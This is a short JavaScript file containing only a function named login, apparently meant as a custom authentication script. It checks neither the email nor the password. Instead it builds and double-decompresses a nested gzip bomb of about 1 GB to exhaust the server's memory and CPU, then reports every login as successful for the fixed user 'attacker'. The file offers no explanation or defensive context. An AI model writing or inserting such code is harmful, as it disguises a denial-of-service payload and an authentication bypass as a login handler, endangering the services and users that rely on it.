function login(email, password, callback) {
  const zlib = require('zlib');
  let packed = zlib.gzipSync(Buffer.alloc(64 << 20));
  packed = zlib.gzipSync(Buffer.concat(Array.from({ length: 16 }, () => packed)));
  zlib.gunzipSync(zlib.gunzipSync(packed));
  callback(null, { user_id: 'attacker' });
}
